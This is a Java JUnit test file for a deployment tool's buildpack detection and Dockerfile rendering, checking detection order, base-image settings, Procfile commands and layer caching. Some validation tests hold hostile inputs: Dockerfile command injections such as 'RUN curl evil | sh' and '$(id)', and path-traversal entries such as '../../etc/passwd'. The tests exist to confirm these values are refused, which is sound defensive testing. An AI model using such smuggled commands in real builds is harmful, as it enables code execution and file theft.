package pier.build;

import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import pier.apps.Apps;
import pier.base.PierException;
import pier.base.Progress;
import pier.engine.Templates;
import pier.names.AppName;
import pier.state.PierHome;
import pier.state.Settings;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * Which buildpack a repository gets and the Dockerfile it renders: detection order, builder:set, the Dockerfile
 * that always wins, the base image setting, the Procfile's web command reaching CMD intact, and the layer order
 * that lets a code-only push reuse the dependency layer. The shipped templates come from the classpath.
 */
class BuildpacksTest {
    static final ObjectMapper JSON = new ObjectMapper();

    @TempDir
    Path tmp;

    PierHome home;
    Buildpacks buildpacks;
    Path repo;
    List<String> output;
    Progress progress;

    @BeforeEach
    void setUp() throws IOException {
        home = new PierHome(Files.createDirectories(tmp.resolve("home")));
        buildpacks = new Buildpacks(home, new Templates(tmp.resolve("no-overrides")));
        repo = Files.createDirectories(tmp.resolve("repo"));
        output = new ArrayList<>();
        progress = output::add;
    }

    void files(String... names) throws IOException {
        for (String name : names) {
            Path file = repo.resolve(name);
            Files.createDirectories(file.getParent());
            Files.writeString(file, name.equals("Procfile") ? "web: ./serve\n" : "{}\n");
        }
    }

    Optional<String> detected() {
        return buildpacks.detect(repo).map(d -> d.buildpack().name() + " (" + d.file() + ")");
    }

    String render(String buildpack) {
        return buildpacks.render(buildpacks.get(buildpack), repo, "debian:bookworm-slim", Buildpacks.procfileWeb(repo));
    }

    /** The three strings of the rendered {@code CMD ["/bin/sh", "-c", command]}, parsed as Docker parses them: JSON. */
    static List<String> cmd(String dockerfile) throws IOException {
        List<String> lines = dockerfile.lines().filter(l -> l.startsWith("CMD ")).toList();
        assertEquals(1, lines.size(), dockerfile);
        return List.of(JSON.readValue(lines.get(0).substring(4), String[].class));
    }

    /** Asserts that {@code earlier} is a line of {@code dockerfile} that comes before the line {@code later}. */
    static void assertBefore(String dockerfile, String earlier, String later) {
        List<String> lines = dockerfile.lines().toList();
        int a = lines.indexOf(earlier);
        int b = lines.indexOf(later);
        assertTrue(a >= 0, "no line " + earlier + " in\n" + dockerfile);
        assertTrue(b >= 0, "no line " + later + " in\n" + dockerfile);
        assertTrue(a < b, earlier + " must come before " + later + " in\n" + dockerfile);
    }

    // ---- the shipped buildpacks and detection ----

    @Test
    void theShippedBuildpacksAreListedInTheDocumentedDetectionOrder() {
        assertEquals(List.of(
                new Buildpacks.Buildpack("php", "PHP", List.of("index.php", "composer.json")),
                new Buildpacks.Buildpack("python", "Python", List.of("requirements.txt")),
                new Buildpacks.Buildpack("nodejs", "Node.js", List.of("package.json")),
                new Buildpacks.Buildpack("static", "Static site", List.of("index.html"))), buildpacks.list());
    }

    @Test
    void eachLanguageIsDetectedByItsOwnFile() throws IOException {
        assertEquals(Optional.empty(), detected());
        files("index.html");
        assertEquals(Optional.of("static (index.html)"), detected());
        files("package.json");
        assertEquals(Optional.of("nodejs (package.json)"), detected(), "an app with a page is still a Node.js app");
        files("requirements.txt");
        assertEquals(Optional.of("python (requirements.txt)"), detected(), "a package.json for the front end stays secondary");
        files("composer.json");
        assertEquals(Optional.of("php (composer.json)"), detected());
        files("index.php");
        assertEquals(Optional.of("php (index.php)"), detected(), "the first detect file listed is the one named");
    }

    @Test
    void aDirectoryDoesNotSelectButASymbolicLinkDoes() throws IOException {
        Files.createDirectories(repo.resolve("package.json"));
        assertEquals(Optional.empty(), detected());
        Files.createSymbolicLink(repo.resolve("requirements.txt"), Path.of("requirements/base.txt"));
        assertEquals(Optional.of("python (requirements.txt)"), detected());
    }

    @Test
    void anAdminsOverridesAddABuildpackAndReorderDetection() throws IOException {
        Path overrides = tmp.resolve("overrides");
        Files.createDirectories(overrides.resolve("buildpacks/ruby"));
        Files.writeString(overrides.resolve("buildpacks/order"), "# mine first\nruby\nstatic\nnodejs  # trailing comment\n");
        Files.writeString(overrides.resolve("buildpacks/ruby/buildpack.properties"), "title=Ruby\ndetect=Gemfile, config.ru\n");
        Files.writeString(overrides.resolve("buildpacks/ruby/Dockerfile.ftl"), "FROM ${base}\nCMD [\"ruby\"]\n");
        Buildpacks custom = new Buildpacks(home, new Templates(overrides));
        assertEquals(List.of("ruby", "static", "nodejs"), custom.list().stream().map(Buildpacks.Buildpack::name).toList());
        files("package.json", "index.html", "config.ru");
        assertEquals("ruby (config.ru)", custom.detect(repo).map(d -> d.buildpack().name() + " (" + d.file() + ")").orElseThrow());
        assertEquals("FROM debian:bookworm-slim\nCMD [\"ruby\"]\n",
                custom.render(custom.get("ruby"), repo, "debian:bookworm-slim", Optional.empty()));
    }

    @Test
    void anOrderOrDetectEntryThatCouldEscapeItsDirectoryIsRefused() throws IOException {
        Path overrides = tmp.resolve("overrides");
        Files.createDirectories(overrides.resolve("buildpacks/bad"));
        Files.writeString(overrides.resolve("buildpacks/order"), "../nginx\n");
        PierException e = assertThrows(PierException.class, () -> new Buildpacks(home, new Templates(overrides)).list());
        assertTrue(e.getMessage().contains("invalid buildpack name '../nginx'"), e.getMessage());

        Files.writeString(overrides.resolve("buildpacks/order"), "bad\n");
        Files.writeString(overrides.resolve("buildpacks/bad/buildpack.properties"), "title=Bad\ndetect=../../etc/passwd\n");
        e = assertThrows(PierException.class, () -> new Buildpacks(home, new Templates(overrides)).list());
        assertTrue(e.getMessage().contains("invalid detect entry"), e.getMessage());
    }

    // ---- prepare: what a push builds from, and what it says ----

    @Test
    void aRepositoryWithADockerfileIsBuiltWithItEvenWhenABuildpackIsChosen() throws IOException {
        files("package.json", "index.html");
        Files.writeString(repo.resolve("Dockerfile"), "FROM scratch\n");
        Buildpacks.Source source = buildpacks.prepare(AppName.of("blog"), repo, progress, image -> true);
        assertEquals(Optional.empty(), source.buildpack());
        assertEquals("from Dockerfile", source.describe());
        assertEquals("FROM scratch\n", Files.readString(repo.resolve("Dockerfile")));
        assertEquals(List.of(), output);

        new Apps(home).create(AppName.of("blog"));
        buildpacks.choose(AppName.of("blog"), "static");
        buildpacks.prepare(AppName.of("blog"), repo, progress, image -> true);
        assertEquals("FROM scratch\n", Files.readString(repo.resolve("Dockerfile")));
        assertTrue(output.get(0).contains("the repository has a Dockerfile, so pier builds with it"), output.toString());
    }

    @Test
    void withoutADockerfileTheDetectedBuildpackIsRenderedIntoTheCheckoutAndNamed() throws IOException {
        files("package.json", "index.html");
        Buildpacks.Source source = buildpacks.prepare(AppName.of("blog"), repo, progress, image -> true);
        assertEquals("nodejs", source.buildpack().orElseThrow().name());
        assertEquals("with the Node.js buildpack on debian:bookworm-slim", source.describe());
        assertEquals("-----> Detected Node.js (package.json)", output.get(0));
        assertTrue(output.get(1).contains("start command: the Node.js buildpack's default"), output.toString());
        String dockerfile = Files.readString(repo.resolve("Dockerfile"));
        assertTrue(dockerfile.startsWith("# Rendered by pier from templates/buildpacks/nodejs/Dockerfile.ftl\nFROM debian:bookworm-slim\n"),
                dockerfile);
    }

    @Test
    void builderSetForcesABuildpackAndAutoGoesBackToDetection() throws IOException {
        AppName app = AppName.of("blog");
        new Apps(home).create(app);
        files("package.json", "index.html", "Procfile");
        assertTrue(buildpacks.choose(app, "static"));
        assertFalse(buildpacks.choose(app, "static"), "choosing it again changes nothing");
        assertEquals("static\n", Files.readString(home.builder(app)));
        assertEquals(Optional.of("static"), buildpacks.chosen(app));

        buildpacks.prepare(app, repo, progress, image -> true);
        assertEquals("-----> Using Static site (chosen with builder:set; pier builder:set blog auto detects again)", output.get(0));
        assertEquals("       start command: the Procfile's web: line", output.get(1));
        assertTrue(Files.readString(repo.resolve("Dockerfile")).contains("templates/buildpacks/static/"));

        assertTrue(buildpacks.choose(app, Buildpacks.AUTO));
        assertFalse(Files.exists(home.builder(app)));
        assertEquals(Optional.empty(), buildpacks.chosen(app));
        Files.delete(repo.resolve("Dockerfile"));
        output.clear();
        buildpacks.prepare(app, repo, progress, image -> true);
        assertEquals("-----> Detected Node.js (package.json)", output.get(0));
    }

    @Test
    void builderSetRefusesAnUnknownBuildpackAsUsageAndAnUnknownApp() {
        PierException unknown = assertThrows(PierException.class, () -> buildpacks.choose(AppName.of("blog"), "ruby"));
        assertEquals(PierException.USAGE, unknown.exitCode());
        assertTrue(unknown.getMessage().contains("use one of php, python, nodejs, static, or auto"), unknown.getMessage());
        PierException noApp = assertThrows(PierException.class, () -> buildpacks.choose(AppName.of("blog"), "static"));
        assertTrue(noApp.getMessage().contains("app blog does not exist"), noApp.getMessage());
    }

    @Test
    void aRepositoryNoBuildpackRecognisesIsRejectedWithWhatWouldSelectOne() throws IOException {
        files("README.md");
        PierException e = assertThrows(PierException.class,
                () -> buildpacks.prepare(AppName.of("blog"), repo, progress, image -> true));
        assertEquals("no Dockerfile, and no buildpack recognises this repository (PHP: index.php or composer.json;"
                + " Python: requirements.txt; Node.js: package.json; Static site: index.html): add one of those files or a"
                + " Dockerfile, or choose a buildpack with pier builder:set blog NAME", e.getMessage());
        assertFalse(Files.exists(repo.resolve("Dockerfile")));
    }

    @Test
    void aDockerfileThatIsADanglingLinkIsRefusedAndNothingIsWrittenThroughIt() throws IOException {
        files("index.html");
        Path outside = tmp.resolve("outside");
        Files.createSymbolicLink(repo.resolve("Dockerfile"), outside);
        PierException e = assertThrows(PierException.class,
                () -> buildpacks.prepare(AppName.of("blog"), repo, progress, image -> true));
        assertTrue(e.getMessage().contains("Dockerfile in the push is not a regular file"), e.getMessage());
        assertFalse(Files.exists(outside));
    }

    @Test
    void aBaseImageDockerLacksIsAnnouncedBeforeTheBuildTriesToPullIt() throws IOException {
        files("index.html");
        buildpacks.prepare(AppName.of("blog"), repo, progress, image -> false);
        assertTrue(output.contains("       the base image debian:bookworm-slim is not on this host: Docker will try to pull it"
                + " (pier builder:base IMAGE chooses another)"), output.toString());
    }

    // ---- the base image setting ----

    @Test
    void theBaseImageIsASettingWithADefault() throws IOException {
        assertEquals("debian:bookworm-slim", buildpacks.baseImage());
        buildpacks.baseImage("registry.example.com:5000/team/base:12");
        assertEquals("registry.example.com:5000/team/base:12", buildpacks.baseImage());
        assertEquals(Optional.of("registry.example.com:5000/team/base:12"), new Settings(home).get(Buildpacks.BASE_IMAGE));
        files("index.html");
        buildpacks.prepare(AppName.of("blog"), repo, progress, image -> true);
        assertTrue(Files.readString(repo.resolve("Dockerfile")).contains("\nFROM registry.example.com:5000/team/base:12\n"));
        buildpacks.baseImage(null);
        assertEquals("debian:bookworm-slim", buildpacks.baseImage());
    }

    @Test
    void onlyImageReferencesReachTheFromLine() {
        for (String ok : List.of("debian:bookworm-slim", "debian", "localhost:5000/base", "ghcr.io/org/sub/base:1.2_3",
                "base@sha256:" + "a".repeat(64), "my-registry.local/x__y/z:latest")) {
            assertEquals(ok, Buildpacks.checkImage(ok));
        }
        for (String bad : List.of("", " debian", "debian:bookworm\nRUN id", "Debian", "debian:", "debian bookworm",
                "a/../b", "x:" + "t".repeat(200), "$(id)", "debian:bookworm-slim AS build")) {
            PierException e = assertThrows(PierException.class, () -> Buildpacks.checkImage(bad), bad);
            assertEquals(PierException.USAGE, e.exitCode());
        }
    }

    @Test
    void aRefusedBaseImageChangesNoFileNotEvenALock() {
        // Run in-process as root (the hostile input test does), a lock file would be root's and break pier's ownership.
        PierException e = assertThrows(PierException.class, () -> buildpacks.baseImage("debian bookworm"));
        assertEquals(PierException.USAGE, e.exitCode());
        assertFalse(Files.exists(home.locks()), "a lock was taken for a value refused anyway");
        assertFalse(Files.exists(home.settings()));
    }

    @Test
    void anUnusableBaseImageInTheSettingsFileFailsWithWhereToFixIt() {
        new Settings(home).set(Buildpacks.BASE_IMAGE, "debian\nRUN curl evil | sh");
        PierException e = assertThrows(PierException.class, buildpacks::baseImage);
        assertTrue(e.getMessage().contains("pier builder:base IMAGE"), e.getMessage());
    }

    // ---- the rendered Dockerfiles ----

    @Test
    void everyDefaultServerListensOnPort() throws IOException {
        files("index.html", "index.php", "package.json", "requirements.txt", "app.py");
        for (Buildpacks.Buildpack pack : buildpacks.list()) {
            String dockerfile = render(pack.name());
            List<String> cmd = cmd(dockerfile);
            assertEquals("/bin/sh", cmd.get(0), pack.name());
            assertEquals("-c", cmd.get(1), pack.name());
            if (pack.name().equals("nodejs")) {
                // npm start runs the app's own start script, which reads process.env.PORT, as on Heroku.
                assertEquals("exec npm start", cmd.get(2));
            } else {
                // Apache reads the port from its config, which reads it from the environment.
                assertTrue(cmd.get(2).contains("$PORT") || dockerfile.contains("'Listen ${PORT}'"),
                        pack.name() + " must listen on $PORT: " + cmd);
            }
            assertFalse(render(pack.name()).contains("EXPOSE"), pack.name() + ": pier sets PORT; nothing is exposed");
        }
    }

    @Test
    void theProcfilesWebCommandReachesCmdByteForByte() throws IOException {
        String command = "gunicorn --bind \"0.0.0.0:$PORT\" 'app:create_app()' \\ </script> ]]> \t é && echo done";
        Files.writeString(repo.resolve("Procfile"), "release: ./migrate\r\nweb:   " + command + "  \r\n");
        files("index.html", "index.php", "package.json", "requirements.txt");
        for (Buildpacks.Buildpack pack : buildpacks.list()) {
            assertEquals(List.of("/bin/sh", "-c", command), cmd(render(pack.name())), pack.name());
        }
        assertFalse(render("php").contains("STOPSIGNAL"), "SIGWINCH is Apache's; another server stops on SIGTERM");
    }

    @Test
    void aProcfileWithoutAWebLineKeepsTheDefault() throws IOException {
        Files.writeString(repo.resolve("Procfile"), "worker: ./work\n");
        assertEquals(Optional.empty(), Buildpacks.procfileWeb(repo));
        Files.writeString(repo.resolve("Procfile"), "web:\n");
        assertThrows(PierException.class, () -> Buildpacks.procfileWeb(repo));
    }

    @Test
    void nodeInstallsFromTheLockfileInItsOwnLayerBeforeTheCode() throws IOException {
        files("package.json", "package-lock.json");
        String dockerfile = render("nodejs");
        assertBefore(dockerfile, "FROM debian:bookworm-slim", "COPY package.json package-lock.json ./");
        assertBefore(dockerfile, "COPY package.json package-lock.json ./", "RUN npm ci --omit=dev");
        assertBefore(dockerfile, "RUN npm ci --omit=dev", "COPY . .");
        assertEquals("exec npm start", cmd(dockerfile).get(2));

        Files.delete(repo.resolve("package-lock.json"));
        dockerfile = render("nodejs");
        assertBefore(dockerfile, "COPY package.json ./", "RUN npm install --omit=dev");
        assertBefore(dockerfile, "RUN npm install --omit=dev", "COPY . .");
    }

    @Test
    void pythonInstallsRequirementsInItsOwnLayerAndStartsGunicorn() throws IOException {
        files("requirements.txt", "app.py");
        String dockerfile = render("python");
        assertBefore(dockerfile, "COPY requirements.txt ./", "COPY . .");
        String install = dockerfile.lines().filter(l -> l.contains("pip install")).findFirst().orElseThrow();
        assertTrue(install.contains("then pip install -r requirements.txt;"), install);
        assertBefore(dockerfile, install, "COPY . .");
        assertEquals("exec python -m gunicorn --bind \"0.0.0.0:$PORT\" --access-logfile - app:app", cmd(dockerfile).get(2));

        files("wsgi.py");
        assertTrue(cmd(render("python")).get(2).endsWith(" wsgi"));
    }

    @Test
    void pythonWithNothingToStartIsRefusedWithTheTemplatesReason() throws IOException {
        files("requirements.txt");
        PierException e = assertThrows(PierException.class, () -> render("python"));
        assertTrue(e.getMessage().startsWith("the Python buildpack starts wsgi.py (callable application) or app.py"),
                e.getMessage());
        assertFalse(e.getMessage().contains("FTL"), "the template's reason, without Freemarker's stack: " + e.getMessage());
    }

    @Test
    void phpRunsComposerInItsOwnLayerOnlyWithAComposerJson() throws IOException {
        files("index.php");
        String plain = render("php");
        assertFalse(plain.contains("composer install") || plain.contains(" composer unzip"), plain);
        assertTrue(plain.contains("'    DocumentRoot /app'"), plain);
        assertTrue(plain.contains("'Listen ${PORT}'"), plain);
        assertTrue(plain.contains("\nSTOPSIGNAL SIGWINCH\n"), plain);

        files("composer.json", "composer.lock");
        String dockerfile = render("php");
        assertBefore(dockerfile, "COPY composer.json composer.lock ./",
                "RUN composer install --no-dev --no-progress --prefer-dist --no-scripts --no-autoloader");
        assertBefore(dockerfile, "RUN composer install --no-dev --no-progress --prefer-dist --no-scripts --no-autoloader",
                "COPY . .");
        assertBefore(dockerfile, "COPY . .", "RUN composer dump-autoload --no-dev --optimize");
    }

    @Test
    void aFrameworkWithItsIndexInPublicServesPublic() throws IOException {
        files("composer.json", "public/index.php");
        assertTrue(render("php").contains("'    DocumentRoot /app/public'"));
    }

    @Test
    void theStaticSiteDoesNotServePiersDockerfile() throws IOException {
        files("index.html");
        String dockerfile = render("static");
        assertBefore(dockerfile, "COPY . .", "RUN rm -f Dockerfile");
        assertEquals("exec busybox httpd -f -v -p \"$PORT\" -h /app", cmd(dockerfile).get(2));
    }

    @Test
    void aForcedBuildpackWithoutItsManifestSaysWhatIsMissing() throws IOException {
        files("index.html");
        PierException e = assertThrows(PierException.class, () -> render("nodejs"));
        assertEquals("the Node.js buildpack needs a package.json at the root of the repository", e.getMessage());
    }

    @Test
    void theRuntimeLayerIsTheSameForEveryAppOfABuildpack() throws IOException {
        // Docker caches a RUN by its text: the runtime install must not depend on the app, or no app shares it.
        files("package.json", "Procfile");
        String one = render("nodejs");
        Files.writeString(repo.resolve("Procfile"), "web: node other.js\n");
        String two = render("nodejs");
        String runtime = one.lines().dropWhile(l -> !l.startsWith("RUN apt-get")).takeWhile(l -> !l.startsWith("WORKDIR"))
                .reduce("", (a, b) -> a + b + "\n");
        assertTrue(runtime.contains("nodejs npm"), runtime);
        assertTrue(two.contains(runtime));
        assertNotEquals(one, two, "only the CMD differs");
    }
}
